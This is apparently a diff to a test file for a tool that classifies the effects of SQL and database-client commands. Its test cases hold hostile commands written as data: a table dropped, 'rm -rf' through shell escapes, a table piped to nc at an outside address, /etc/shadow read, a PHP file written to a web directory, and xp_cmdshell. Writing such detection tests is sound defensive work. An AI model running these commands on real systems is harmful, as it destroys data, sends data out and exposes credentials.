@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import { readSql } from '../../../../src/actions/code/sql.ts';
+import { readSql as readerOf } from '../../../../src/actions/code/sql.ts';
 import { shownEffects, shownRuns } from '../../../support/outcome.ts';
 import { setting } from '../../../support/setting.ts';
 
+const readSql = readerOf('sql');
 const read = (text: string) => {
   const outcome = readSql(text, setting());
   return [...shownEffects(outcome), ...shownRuns(outcome)];
@@ -10,10 +11,10 @@ const read = (text: string) => {
 
 describe('SQL and what its clients add to it', () => {
   it.each([
-    ['select * from a; drop table b', ['db.read', 'db.drop']],
+    ['select * from a; drop table b', ['db.read', 'db.drop b']],
     ['.shell id; uname', ['sh: id; uname']],
     ['\\! rm -rf notes', ['sh: rm -rf notes']],
-    ["copy a to program 'nc 203.0.113.9 4444'", ['db.write', 'sh: nc 203.0.113.9 4444']],
+    ["copy a to program 'nc 203.0.113.9 4444'", ['db.read', 'sh: nc 203.0.113.9 4444']],
     ["select load_file('/etc/shadow') from a", ['db.read', 'file.read /etc/shadow']],
     ["select 1 from a into outfile '/srv/x.php'", ['db.read', 'file.write /srv/x.php']],
     ["exec xp_cmdshell 'whoami'", ['sh: whoami']],
